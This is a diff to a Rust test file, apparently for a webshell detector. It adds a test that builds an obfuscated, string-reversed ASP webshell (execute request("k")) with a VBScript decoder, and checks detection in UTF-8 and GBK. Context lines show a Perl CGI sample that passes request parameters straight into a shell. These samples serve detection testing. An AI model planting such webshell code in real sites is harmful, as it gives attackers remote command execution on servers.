@@ -69,6 +69,20 @@ fn weights() {
     }
 }
 
+/// A decoder that turns text around character by character, with signs of two bytes for quotes and line breaks.
+#[test]
+fn decoders_that_count_wide_characters() {
+    let hidden: String = "x = 1\u{256b}execute request(\u{2541}k\u{2541})\u{256b}y = 2".chars().rev().collect();
+    let page = format!(
+        "<%\nexecute d(\"{hidden}\")\nFunction d(o)\no = Replace(o, \"\u{2541}\", \"\"\"\")\nFor i = 1 To Len(o)\nIf Mid(o, i, 1) <> \"\u{256b}\" Then\nn = Mid(o, i, 1) & n\nElse\nn = vbCrLf & n\nEnd If\nNext\nd = n\nEnd Function\n%>"
+    );
+    let (gbk, _, had_errors) = encoding_rs::GBK.encode(&page);
+    assert!(!had_errors);
+    for bytes in [page.as_bytes(), &gbk] {
+        assert_eq!(seen_at("a.asp", bytes).verdict, Verdict::Webshell);
+    }
+}
+
 #[test]
 fn commands_behind_others() {
     let perl = b"#!/usr/bin/perl\nuse CGI; $q = CGI->new; $d = $q->param('d'); $c = $q->param('c'); open(F, \"cd $d && $c |\");";
